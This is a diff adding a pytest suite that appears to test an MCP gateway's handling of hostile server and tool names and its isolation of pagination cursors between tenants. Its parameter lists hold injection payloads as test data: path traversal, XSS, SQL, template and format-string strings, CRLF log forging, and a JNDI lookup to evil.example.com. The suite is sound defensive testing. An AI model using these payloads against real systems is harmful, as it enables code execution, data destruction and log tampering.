@@ -1,0 +1,140 @@
+"""Names and cursors of strangers: in paths, pages, log lines, and lists of others."""
+
+import json
+from typing import Any
+
+import pytest
+
+from tests.attacks.upstreams.conftest import SERVERS, Person, Scene, said, tool
+from tests.support.issuers import Send
+from tests.upstreams.transport.conftest import Posted, result
+
+NAMES = [
+    "../../v1/mcp-servers",
+    "..%2f..%2fadmin",
+    "act?x=1#y",
+    "<script>alert(1)</script>",
+    "{{ 7 * 7 }}",
+    "'; DROP TABLE entries; --",
+    "%s%n%x",
+    "${jndi:ldap://evil.example.com/a}",
+]
+UNSHOWN = ['act\r\n{"event":"forged"}', "act\0", "act\u202egnp", "act\x1b[2J", "\ud800"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_the_name_of_a_server_is_only_text(scene: Scene, name: str) -> None:
+    """Its tools have plain names, and it occurs in JSON alone."""
+    house = scene.town.house("named")
+    admin = scene.of("acme")
+    made = admin.ask("POST", SERVERS, {"name": name, "url": scene.url("named")})
+    assert made.status in {201, 400}, made
+    if made.status == 400:
+        assert made.json["field"] == "name"
+        return
+    identity = made.json["id"]
+    try:
+        assert admin.refresh(identity).status == 200
+        before = len(house.of("tools/call"))
+        for path in (f"/tool/{name}/call", f"/tool/mcp_{name}__act/call"):
+            raw = admin.server.client.send("POST", quoted(path), (), b"{}", token=admin.token)
+            assert raw.status in {400, 404, 405}, raw
+        assert len(house.of("tools/call")) == before
+        lines = [json.loads(line) for line in scene.gate.log().splitlines() if line[:1] == "{"]
+        assert not any(line.get("event") == "forged" for line in lines)
+        scene.others_go_on()
+    finally:
+        assert admin.ask("DELETE", f"{SERVERS}/{identity}").status == 204
+
+
+@pytest.mark.parametrize("name", UNSHOWN)
+def test_a_name_that_hides_something_is_refused(scene: Scene, name: str) -> None:
+    """For a server with its field; for a tool by leaving it out."""
+    admin = scene.of("acme")
+    made = admin.ask("POST", SERVERS, {"name": name, "url": scene.url("good")})
+    assert made.status == 400
+    assert made.json["error"] in {"invalid_field", "invalid_body"}
+    house, user, identity = scene.moved_in("named")
+    house.answers["tools/list"] = result({"tools": [tool(name.replace("\ud800", "\0")), tool()]})
+    try:
+        assert user.refresh(identity).status == 200
+        scene.offered(user, "mcp_named__act")
+        assert len([one for one in user.names() if one.startswith("mcp_named")]) == 1
+        log = scene.gate.log()
+        assert "\u202e" not in log
+        assert "\x1b[2J" not in log
+        assert '\n{"event":"forged"}' not in log
+    finally:
+        assert user.ask("DELETE", f"{SERVERS}/{identity}").status == 204
+
+
+@pytest.mark.parametrize("name", [*NAMES, "ACT", "act ", "a" * 2_000])
+def test_the_name_of_a_tool_is_only_text(scene: Scene, name: str) -> None:
+    """It gets a plain name here, is called by its own, and reaches no other path."""
+    house, user, identity = scene.moved_in("named")
+    house.answers["tools/list"] = result({"tools": [tool(name), tool("plain")]})
+    try:
+        assert user.refresh(identity).status == 200
+        scene.offered(user, "mcp_named__plain")
+        for one in (one for one in user.names() if one.startswith("mcp_named")):
+            assert one.replace("_", "").isalnum()
+            assert one.isascii()
+            assert len(one) <= 64
+            assert user.call(one).status == 200
+            asked = house.of("tools/call")[-1]
+            assert asked.body["params"]["name"] in {name, "plain"}
+            assert "\r" not in asked.headers.get("mcp-name", "")
+        scene.others_go_on()
+    finally:
+        assert user.ask("DELETE", f"{SERVERS}/{identity}").status == 204
+
+
+def test_a_cursor_is_for_its_own_tenant_and_list(scene: Scene) -> None:
+    """One of another tenant, list or upstream is refused; the upstreams never see any of ours."""
+    people: dict[str, Person] = {}
+    seen: list[Any] = []
+    identities = {}
+    for tenant in ("acme", "globex"):
+        house = scene.town.house(f"many_{tenant}")
+
+        async def pages(posted: Posted, send: Send, tenant: str = tenant) -> None:
+            cursor = posted.body["params"].get("cursor")
+            seen.append(cursor)
+            at = 0 if cursor is None else int(cursor.removeprefix("page-"))
+            tools = [tool(f"{tenant}_{at}_{number}") for number in range(100)]
+            more = {"nextCursor": f"page-{at + 1}"} if at < 5 else {}
+            await result({"tools": tools, **more})(posted, send)
+
+        house.answers["tools/list"] = pages
+        house.answers["tools/call"] = result(said("x"))
+        people[tenant] = scene.of(tenant, "many")
+        identities[tenant] = people[tenant].register("many", scene.url(f"many_{tenant}"))
+        assert people[tenant].refresh(identities[tenant]).status == 200
+        scene.offered(people[tenant], f"mcp_many__{tenant}_5_99")
+    try:
+        cursor = people["acme"].rpc("tools/list", {})["result"]["nextCursor"]
+        assert "page-" not in cursor
+        for person, method in (
+            (people["globex"], "tools/list"),
+            (people["acme"], "prompts/list"),
+            (people["acme"], "resources/list"),
+            (scene.of("acme", sub="poor", scope="mcp:good"), "tools/list"),
+        ):
+            heard = person.rpc(method, {"cursor": cursor})
+            names = str(heard.get("result", ""))
+            assert "error" in heard or "mcp_many__acme" not in names, heard
+        assert people["globex"].rpc("tools/list", {"cursor": cursor})["error"]["code"] == -32602
+        for forged in ("page-1", "", "x" * 5_000):
+            heard = people["acme"].rpc("tools/list", {"cursor": forged})
+            assert heard["error"]["code"] == -32602, heard
+        assert set(seen) == {None, *(f"page-{at}" for at in range(1, 6))}
+        listed = [one for one in people["acme"].names() if one.startswith("mcp_many")]
+        assert len(listed) == len(set(listed)) == 600
+    finally:
+        for tenant, identity in identities.items():
+            assert people[tenant].ask("DELETE", f"{SERVERS}/{identity}").status == 204
+
+
+def quoted(path: str) -> str:
+    """The path as a careless client sends it: only what would break the request line is encoded."""
+    return "".join(one if "!" <= one <= "~" else f"%{ord(one):02X}" for one in path)
